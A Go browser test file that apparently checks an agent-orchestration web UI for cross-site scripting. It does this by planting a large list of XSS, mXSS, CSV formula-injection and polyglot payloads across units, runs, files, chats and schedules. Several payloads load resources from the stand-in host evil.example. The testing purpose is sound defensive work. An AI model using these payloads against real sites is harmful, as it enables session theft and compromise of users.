package web_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agent-on-demand/aod/internal/testing/trusted"

	"github.com/chromedp/cdproto/browser"
	cdppage "github.com/chromedp/cdproto/page"

	"github.com/agent-on-demand/aod/api"
	"github.com/agent-on-demand/aod/orchestrator"
	"github.com/agent-on-demand/aod/orchestrator/feature/schedules"
	"github.com/agent-on-demand/aod/orchestrator/layout"
	"github.com/agent-on-demand/aod/orchestrator/spool"
)

// payloads are texts, one a line, that do something wherever they aren't escaped for the place where they stand.
// Each calls PWN, which sets window.pwned, or asks another host.
var payloads = strings.Split(strings.ReplaceAll(strings.TrimSpace(`
<script>PWN</script>
"><script>PWN</script>
'><script>PWN</script>
</script><script>PWN</script>
</title><script>PWN</script>
</textarea><script>PWN</script>
</pre></code><script>PWN</script>
</text></svg><script>PWN</script>
</option></select><script>PWN</script>
--><script>PWN</script>
<!--><script>PWN</script>
]]><script>PWN</script>
<ScRiPt/x>PWN</sCrIpT >
<<script>PWN//<</script>
<scr<script>ipt>PWN</scr</script>ipt>
<script src=//evil.example/a.js></script>
<script type=module src=data:text/javascript,PWN></script>
<img src=x onerror=PWN>
<img src=//evil.example/a.png>
<img/src='x'/onerror='PWN'>
<img srcset="//evil.example/a 2x">
" autofocus onfocus=PWN x="
' autofocus onfocus=PWN x='
x onmouseover=PWN autofocus onfocus=PWN
<svg onload=PWN>
<svg><script>PWN</script></svg>
<svg><animate onbegin=PWN attributeName=x dur=1s>
<svg><a href="javascript:PWN"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=PWN>#x"/></svg>
<svg><style><img src=x onerror=PWN></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=PWN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>
<noscript><p title="</noscript><img src=x onerror=PWN>">
<body onload=PWN>
<details open ontoggle=PWN>
<input autofocus onfocus=PWN>
<video><source onerror=PWN></video>
<marquee onstart=PWN>
<template><script>PWN</script></template>
<iframe src="javascript:PWN"></iframe>
<iframe srcdoc="<script>PWN</script>"></iframe>
<object data="data:text/html,<script>PWN</script>"></object>
<embed src="javascript:PWN">
<a href="javascript:PWN" id=main>x</a>
javascript:PWN
JaVaScRiPt:PWN//
data:text/html,<script>PWN</script>
//evil.example/x
\\evil.example\x
<meta http-equiv=refresh content="0;url=//evil.example/">
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/a.css>
<link rel=prefetch href=//evil.example/a>
<style>@import "//evil.example/a.css"; * { display: none }</style>
</style><script>PWN</script>
x" style="position: fixed; inset: 0; background: url(//evil.example/a)
<div data-part=head id=part-head data-peek=//evil.example/>
<form id=live name=body action=//evil.example/><input name=children>
&lt;script&gt;PWN&lt;/script&gt;&#60;img src=x onerror=PWN&#62;
{{PWN}} ${PWN} <%= PWN %> #{PWN} {{.D}} {{template "page.html"}}
\u003cscript\u003ePWN\u003c/script\u003e \x3cimg src=x onerror=PWN\x3e
=cmd|' /C calc'!A0,"<script>PWN</script>",@SUM(1)
[x](javascript:PWN) ![x](//evil.example/a.png) <javascript:PWN>
`), "PWN", "window.pwned=1"), "\n")

// oddities are payloads that not every place takes, for they have characters that people don't see.
var oddities = []string{
	"<scr\x00ipt>window.pwned=1</scr\x00ipt>", "<img src=x\x00 onerror=window.pwned=1>", "\u202e<script>window.pwned=1</script>\u2069",
	"\x1b[31m<script>window.pwned=1</script>\x1b]8;;javascript:window.pwned=1\x1b\\x\x1b]8;;\x1b\\", "<img\x0csrc=x\ronerror=window.pwned=1>",
	"\ufeff<script>window.pwned=1</script>", "java\tscript:window.pwned=1", strings.Repeat("<b>pwned", 4000),
}

// quoted is a text as JSON, and so as YAML.
func quoted(text string) string {
	raw, _ := json.Marshal(text)
	return string(raw)
}

// hostileFiles are of units that say all payloads wherever units may say something.
func hostileFiles() map[string]string {
	all := strings.Join(payloads, "\n")
	var fields, notes, broken []string
	for i, p := range payloads {
		fields = append(fields, fmt.Sprintf(`%s: {"type": "string", "title": %[1]s, "description": %[1]s, "default": %[1]s}`, quoted(p)),
			fmt.Sprintf(`"choice %d": {"enum": [%s, "b"], "description": %[2]s}`, i, quoted(p)))
		notes = append(notes, "# "+p)
		broken = append(broken, quoted(p)+": 1")
	}
	object := `{"type": "object", "properties": {` + strings.Join(fields, ", ") + `}}`
	return map[string]string{
		"form/Dockerfile":   "FROM base:1\nCMD [\"form\"]\n",
		"form/agent.yaml":   "name: form\ndescription: " + quoted(all) + "\n",
		"form/schema.json":  `{"input": ` + object + `, "output": ` + object + `}`,
		"broken/agent.yaml": "name: broken\n" + strings.Join(broken, "\n") + "\n",
		"evil/agent.yaml":   "name: evil\nkind: flow\ndescription: " + quoted(all) + "\n",
		"evil/schema.json":  `{"input": {"type": "object"}, "output": {"type": "object"}}`,
		"evil/flow.yaml": strings.Join(notes, "\n") + `
start: question
nodes:
  question:
    ask: "${{ input.say }}"
    show: {text: "${{ input.say }}", list: "${{ input.list }}", more: "${{ input.more }}"}
    form: {type: object, properties: {why: {type: string, title: ` + quoted(all) + `, description: ` + quoted(all) + `}}}
    set: {why: "${{ out }}"}
    next: {approve: call, reject: end}
  call:
    run: '${{ state.unit ?? ` + quoted(payloads[0]) + ` }}'
    units: [actor]
    with: {do: complain, say: "${{ input.say }}"}
    next: {default: end, error: each}
  each: {map: "${{ input.list }}", parallel: 2, flow: {nodes: {item: {run: actor, with: {say: "${{ item }}"}}}}, collect: [], tolerate: 100}
`,
	}
}

// hostileScene is a server where everything that others may write is hostile.
type hostileScene struct {
	p     *page
	shows []string // addresses of pages with a payload
	other []string // addresses that need not have one
	files []string // addresses of files
}

func newHostileScene(p *page) *hostileScene {
	p.t.Helper()
	s := &hostileScene{p: p}
	all := strings.Join(payloads, "\n")
	var list []string // each of them becomes a run
	for some := range slices.Chunk(payloads, 16) {
		list = append(list, strings.Join(some, "\n"))
	}
	input, err := json.Marshal(map[string]any{"say": all, "list": list, "more": map[string]any{payloads[0]: payloads}})
	must(p.t, err)
	open, openQuestion := p.asks(spool.Submission{Unit: "evil", Input: input, Metadata: hostileMetadata()})
	flow, question := p.asks(spool.Submission{Unit: "evil", Input: input, Context: payloads[1]})
	must(p.t, p.svc.Questions.Answer(trusted.Context(p.t), question, api.Answer{
		Action: "approve", Form: []byte(`{"why": ` + quoted(all) + `}`), Note: all, By: payloads[2],
	}))
	p.ended(flow)
	complains := p.ran("complain", strings.Join(append(payloads, oddities...), "\n"))
	s.models(complains)
	s.run(flow, "", "/flow", "/record")
	s.run(open, "/flow", "/record")
	s.run(complains, "", "/log", "/record", "/models", "/models/1")
	s.run(p.ran("", strings.Join(oddities, "\n")), "", "/log", "/record")
	s.run(s.writes(namedFiles()), "")
	s.run(s.writes(meanFiles), "")
	s.shows = append(s.shows, "/ui/runs", "/ui/units", "/ui/units/form", "/ui/units/broken", "/ui/units/evil", "/ui/units/evil/flow",
		"/ui/units/actor?from="+complains, "/ui/questions", "/ui/questions/"+question, "/ui/questions/"+openQuestion,
		s.schedules(), "/ui/schedules", s.chats())
	s.refused()
	return s
}

// run adds pages of a run that show payloads, and the others that it has.
func (s *hostileScene) run(id string, pages ...string) {
	for _, one := range pages {
		s.shows = append(s.shows, "/ui/runs/"+id+one)
	}
}

// hostileMetadata are as many payloads as metadata can have.
func hostileMetadata() map[string]string {
	packed := map[string]string{}
	for _, one := range payloads {
		key := fmt.Sprintf("k%d", max(len(packed)-1, 0))
		if len(packed[key])+len(one) > api.MaxMetadataValue || packed[key] == "" {
			key = fmt.Sprintf("k%d", len(packed))
		}
		if len(packed) < api.MaxMetadata || packed[key] != "" {
			packed[key] += one
		}
	}
	return packed
}

// namedFiles are files whose names are payloads, as far as a name can be, and whose contents are, too.
func namedFiles() map[string]string {
	files := map[string]string{}
	for _, one := range append(payloads, oddities...) {
		files[strings.ReplaceAll(fmt.Sprintf("%.100s.txt", one), "\x00", "")] = "a text " + one
	}
	return files
}

// meanFiles are files of the kinds that a browser could run.
var meanFiles = map[string]string{
	"page.html":    "<!doctype html><script>window.pwned=1</script>",
	"page.xhtml":   `<html xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned=1</script></html>`,
	"draw.svg":     `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script><image href="//evil.example/a.png"/><style>@import "//evil.example/a.css";</style><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/></foreignObject></svg>`,
	"style.xml":    `<?xml version="1.0"?><?xml-stylesheet href="//evil.example/a.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>`,
	"paper.pdf":    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n",
	"notes.txt":    "notes: <script>window.pwned=1</script>",
	"table.csv":    "name,<script>window.pwned=1</script>\n=cmd|' /C calc'!A0,\"<img src=x onerror=window.pwned=1>\"\n",
	"notes.md":     "# <img src=x onerror=window.pwned=1>\n[x](javascript:window.pwned=1)\n<script>window.pwned=1</script>",
	"data.json":    `{"<script>window.pwned=1</script>": "<img src=x onerror=window.pwned=1>"}`,
	"picture.html": "GIF89a\x03\x00\x02\x00\x00\x00\x00,\x00\x00\x00\x00\x03\x00\x02\x00\x00\x02\x03D\x12\x05\x00;<script>window.pwned=1</script>",
	"mail.mhtml":   "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>window.pwned=1</script>",
	"run.js":       "window.pwned=1",
}

// writes is a run that writes files.
func (s *hostileScene) writes(files map[string]string) (id string) {
	s.p.t.Helper()
	say, err := json.Marshal(files)
	must(s.p.t, err)
	id = s.p.ran("write", string(say))
	record, err := s.p.svc.Runs.Get(trusted.Context(s.p.t), id)
	must(s.p.t, err)
	if len(record.Files) < len(files)-3 { // some of the names are the same to a file system
		s.p.t.Fatalf("%d of %d files are there", len(record.Files), len(files))
	}
	for _, f := range record.Files {
		s.files = append(s.files, "/ui/runs/"+id+"/files/"+url.PathEscape(f.Name))
	}
	return id
}

// models lets a run have asked a model.
func (s *hostileScene) models(id string) {
	s.p.t.Helper()
	var messages, tools []any
	for _, one := range payloads {
		call := map[string]any{"id": one, "function": map[string]any{"name": one, "arguments": one}}
		messages = append(messages, map[string]any{"role": one, "content": one},
			map[string]any{"role": "assistant", "reasoning_content": one, "tool_calls": []any{call}},
			map[string]any{"role": "user", "content": []any{
				map[string]any{"type": "image_url", "image_url": map[string]any{"url": one}},
				map[string]any{"type": one, one: one},
			}})
		tools = append(tools, map[string]any{"name": one, "description": one})
	}
	answer := map[string]any{"choices": []any{map[string]any{"message": map[string]any{"role": "assistant", "content": strings.Join(payloads, "\n")}}}}
	line, err := json.Marshal(map[string]any{
		"n": 1, "at": "2026-11-29T07:00:00Z", "dialect": "chat", "model": payloads[0], "provider": payloads[1], "status": 200, "id": payloads[2],
		"request": map[string]any{"messages": messages, "tools": tools}, "answer": answer,
	})
	must(s.p.t, err)
	dir, err := s.p.svc.Files.RunDir(trusted.Context(s.p.t), id)
	must(s.p.t, err)
	must(s.p.t, os.WriteFile(filepath.Join(dir, layout.Transcript), append(line, '\n'), 0o600))
}

func (s *hostileScene) schedules() (at string) {
	s.p.t.Helper()
	keeper, _ := orchestrator.FeatureOf[*schedules.Scheduler](s.p.svc)
	_, _, err := keeper.Put(trusted.Context(s.p.t), "evil", api.ScheduleSpec{
		Unit: "actor", Cron: "@yearly", Note: strings.Join(payloads[:8], " "), Input: []byte(`{"say":` + quoted(strings.Join(payloads, "\n")) + `}`),
	}, nil)
	must(s.p.t, err)
	return "/ui/schedules/evil"
}

// chats is the address of a session in which a payload was said.
func (s *hostileScene) chats() (at string) {
	s.p.t.Helper()
	at = "/ui/" + s.p.post("/ui/chat", "unit", "talker").wants(s.p.t, 303).Header.Get("Location")
	s.p.say(at, "message", strings.Join(payloads, "\n"), "file:files@<img src=x onerror=pwned>", "x").wants(s.p.t, 303)
	return at
}

// refused adds addresses that have the payloads themselves.
func (s *hostileScene) refused() {
	all := strings.Join(payloads, "\n")
	for _, at := range []string{"runs/%s", "units/%s", "questions/%s", "schedules/%s", "chat/%s", "%s"} {
		s.other = append(s.other, "/ui/"+fmt.Sprintf(at, url.PathEscape(all)))
	}
	for _, at := range []string{
		"runs?state=%s", "runs?unit=%s", "runs?metadata=a:%s", "runs?since=%s", "runs?parent=%s", "runs?cursor=%s", "units?q=%s",
		"login?next=%s", "login?code=%s", "operations/prune?age=%s", "questions?kept=%s", "chat?after=%s",
	} {
		s.other = append(s.other, "/ui/"+fmt.Sprintf(at, url.QueryEscape(all)))
	}
}

// harmful is what of a page would do something that the server's own templates don't do; "": nothing would.
const harmful = `(() => {
	const bad = [...document.querySelectorAll("iframe, frame, object, embed, base, style, meta[http-equiv], math, marquee, video, audio, noscript, foreignObject, animate")]
	bad.push(...[...document.scripts].slice(1))
	for (const e of document.querySelectorAll("*")) {
		if ([...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc")) bad.push(e)
		for (const name of ["href", "src", "action", "formAction", "srcset", "xlink:href"]) {
			const to = e.getAttribute(name)
			if (to !== null && !new URL(to, location).href.startsWith(location.origin + "/ui/")) bad.push(e)
		}
	}
	if (window.pwned !== undefined || /^[x\\/]*evil/.test(location.host)) bad.push(document.documentElement)
	return bad.slice(0, 3).map((e) => e.cloneNode().outerHTML).join(" ")
})()`

// isHarmless fails the test unless all that a page shows is text, also what it brings when it is asked for.
func (b *tab) isHarmless(path string) {
	b.t.Helper()
	eval[bool](b, `[...document.querySelectorAll("main details")].forEach((d) => d.open = true), true`)
	b.until(`[...document.querySelectorAll("details[data-peek]")].every((d) => !d.dataset.peeked || d.querySelector("dl"))`)
	if bad := eval[string](b, harmful); bad != "" {
		b.t.Errorf("%s has %s", path, bad)
	}
}

const shown = `document.querySelector("main").innerHTML.includes("pwned")`

// Whatever others write is a text on the page, in each place and also when it comes while the page is looked at.
func TestWhatOthersWriteIsText(t *testing.T) {
	t.Parallel()
	p := newPage(t, hostileFiles(), talker).signIn()
	s := newHostileScene(p)
	t.Run("on every page", func(t *testing.T) {
		t.Parallel()
		b := newTab(t, p)
		for _, path := range s.shows {
			b.open(path)
			b.isHarmless(path)
			if !eval[bool](b, shown) {
				t.Errorf("%s shows none of it: %.2000s", path, eval[string](b, "document.body.innerText"))
			}
		}
	})
	t.Run("at addresses that aren't any", func(t *testing.T) {
		t.Parallel()
		b := newTab(t, p)
		b.expect(`^error Failed to load resource: the server responded with a status of 4\d\d `)
		for _, path := range s.other {
			b.open(path)
			b.isHarmless(path)
		}
	})
	t.Run("in pages that follow it", func(t *testing.T) {
		t.Parallel()
		followsHostile(t, p)
	})
	t.Run("in files that are opened by their addresses", func(t *testing.T) {
		t.Parallel()
		opensHostile(t, p, s.files)
	})
}

// followsHostile looks at a run, at its log and at the list of runs, while the run says payloads.
func followsHostile(t *testing.T, p *page) {
	t.Helper()
	id := p.submit("wait", strings.Join(payloads, "\n"))
	p.until(id, func(r api.Record) bool { return r.State == api.Running })
	list := newTab(t, p)
	run, log := list.another(), list.another()
	at := "/ui/runs/" + id
	for path, b := range map[string]*tab{"/ui/runs": list, at: run, at + "/log": log} {
		b.open(path)
		b.until(live)
	}
	fails := p.ran("complain", strings.Join(payloads, "\n"))
	list.until(row(fails, "pwned"))
	p.release <- struct{}{}
	run.until(says("h1", "actor succeeded") + ` && document.querySelectorAll("#part-data pre")[1].textContent.includes("pwned")`)
	log.until(says("main", "later "+payloads[0]) + " && " + says("h1", "actor succeeded"))
	for path, b := range map[string]*tab{"/ui/runs": list, at: run, at + "/log": log} {
		b.isHarmless(path)
	}
}

// opensHostile has a browser go to files as if they were pages.
func opensHostile(t *testing.T, p *page, files []string) {
	t.Helper()
	b := newTab(t, p)
	//nolint:misspell // the browser's own word
	call(b, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny})
	// The browser's own page around a picture has styles and an icon, which the sandbox refuses.
	b.expect(`Applying inline style violates .* 'default-src 'none''|Loading the image '[^']*/picture.html' violates`)
	pictures := 0
	const tried = 24 // of them by the browser, which takes longer
	for i, path := range files {
		if guards(t, path, p.get(path)); i < len(files)-tried {
			continue
		}
		b.open("/ui/login")
		went := call(b, cdppage.Navigate, cdppage.NavigateParams{URL: p.url + path})
		if !went.IsDownload {
			pictures++
			b.until(`document.readyState === "complete" && document.contentType === "image/gif" && document.images[0].naturalWidth === 3`)
		}
		if bad := eval[string](b, harmful); went.IsDownload && bad != "" {
			t.Errorf("%s has %s", path, bad)
		}
		if !eval[bool](b, "window.pwned === undefined") {
			t.Errorf("%s runs", path)
		}
	}
	if pictures != 1 {
		t.Errorf("%d files of %d are shown, not the picture alone", pictures, len(files))
	}
}

// JSON of many levels, and texts without an end, are shown as far as a page can.
func TestDeepAndLongDocumentsAreShortPages(t *testing.T) {
	t.Parallel()
	p := newPage(t, flowFiles("short", "nodes:\n  a: {set: {kept: \"${{ state.deep }}\"}}\n")).signIn()
	deep := func(levels int) string { return strings.Repeat("[", levels) + strings.Repeat("]", levels) }
	run := p.flows("short", `{"deep": `+deep(60)+`, "long": `+quoted(strings.Repeat(`"`, 100_000))+`}`)
	asks := p.ran("", strings.Repeat(`"`, 100_000))
	dir, err := p.svc.Files.RunDir(trusted.Context(t), asks)
	must(t, err)
	var lines strings.Builder
	for n, content := range []string{deep(4000), quoted(strings.Repeat("<", 200<<10)), strings.Repeat(`[{"type":"tool_result","content":`, 1000) + `"x"` + strings.Repeat("}]", 1000)} {
		fmt.Fprintf(&lines, `{"n":%d,"at":"2026-11-29T07:00:00Z","dialect":"messages","model":"m","status":200,"request":{"messages":[{"role":"user","content":%s}]},"answer":{"content":%[2]s}}`+"\n", n+1, content)
	}
	must(t, os.WriteFile(filepath.Join(dir, layout.Transcript), []byte(lines.String()), 0o600))
	for _, at := range []string{
		run.ID, run.ID + "/flow", run.ID + "/record", run.ID + "/events", run.ID + "/peek", asks, asks + "/record", asks + "/log",
		asks + "/peek", asks + "/models", asks + "/models/1", asks + "/models/2", asks + "/models/3",
	} {
		body := p.get("/ui/runs/"+at).wants(t, 200).body
		if t.Logf("%s: %d bytes", at, len(body)); len(body) > 1<<20 {
			t.Errorf("%s has %d bytes", at, len(body))
		}
	}
}
